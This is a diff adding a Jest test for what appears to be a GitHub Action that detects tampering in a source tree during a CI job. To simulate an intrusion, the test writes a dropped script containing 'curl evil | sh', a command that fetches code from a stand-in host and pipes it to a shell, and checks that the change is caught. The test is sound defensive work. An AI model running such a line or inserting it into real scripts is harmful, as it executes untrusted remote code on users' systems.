@@ -172,6 +172,30 @@ describe('the action against the Actions cache', () => {
     write('src/lib.js', 'export const x = 1\n')
   })
 
+  it('watch-job without a signing key: the post step compares while it scans, and catches a change', async () => {
+    // Unsigned, the post step compares the main step's scan line by line during its own scan (as verify
+    // does) instead of decoding it: same answers.
+    const inputs = { 'baseline-name': 'watch-unsigned', 'watch-job': 'true', 'update-baseline': 'never' }
+    expect((await main({ 'baseline-name': 'watch-unsigned', mode: 'baseline' })).exitCode).toBe(0)
+    expect((await main(inputs)).exitCode).toBe(0)
+    const quiet = await job.post(inputs, { GITHUB_RUN_ID: String(run) })
+    expect(quiet.exitCode).toBe(0)
+    expect(quiet.stdout).toMatch(/nothing in the tree changed/)
+    expect((await main(inputs)).exitCode).toBe(0)
+    write('src/lib.js', 'export const x = "tampered"\n')
+    fs.writeFileSync(path.join(job.workspace, 'src', 'dropped.sh'), 'curl evil | sh\n')
+    try {
+      const p = await job.post(inputs, { GITHUB_RUN_ID: String(run) })
+      expect(p.exitCode).toBe(1)
+      expect(errors(p).map((c) => c.props.file)).toEqual(
+        expect.arrayContaining(['src/lib.js', 'src/dropped.sh']),
+      )
+    } finally {
+      fs.rmSync(path.join(job.workspace, 'src', 'dropped.sh'))
+      write('src/lib.js', 'export const x = 1\n')
+    }
+  })
+
   it('watch-job: a quiet job passes the post step', async () => {
     const inputs = { 'watch-job': 'true', 'signing-key': 'key-one', 'update-baseline': 'never' }
     expect((await main(inputs)).exitCode).toBe(0)
